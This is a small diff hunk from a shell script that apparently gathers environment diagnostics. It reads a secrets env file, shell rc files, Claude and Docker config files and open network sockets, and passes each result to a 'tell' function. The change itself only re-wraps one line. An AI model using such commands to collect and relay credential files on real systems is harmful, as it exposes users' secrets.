@@ -38,7 +38,8 @@ as 'cat .config/claude-secrets.env' 2>/dev/null | tell secrets
 as 'cat .bashrc .bash_aliases .profile .zshrc' 2>/dev/null | tell shells
 as 'cat .claude-routed/settings.json' 2>/dev/null | tell claude
 as 'cat .config/docker/daemon.json' 2>/dev/null | tell daemon
-as 'ulimit -v 2000000; timeout -k 1 8 bash -ic "type -P claude" </dev/null' 2>/dev/null | most | tail -n 1 | tell program
+as 'ulimit -v 2000000; timeout -k 1 8 bash -ic "type -P claude" </dev/null' 2>/dev/null |
+    most | tail -n 1 | tell program
 id -nG "$user" | tell groups
 id -u "$user" | tell uid
 cat /proc/net/tcp /proc/net/tcp6 2>/dev/null | tell sockets
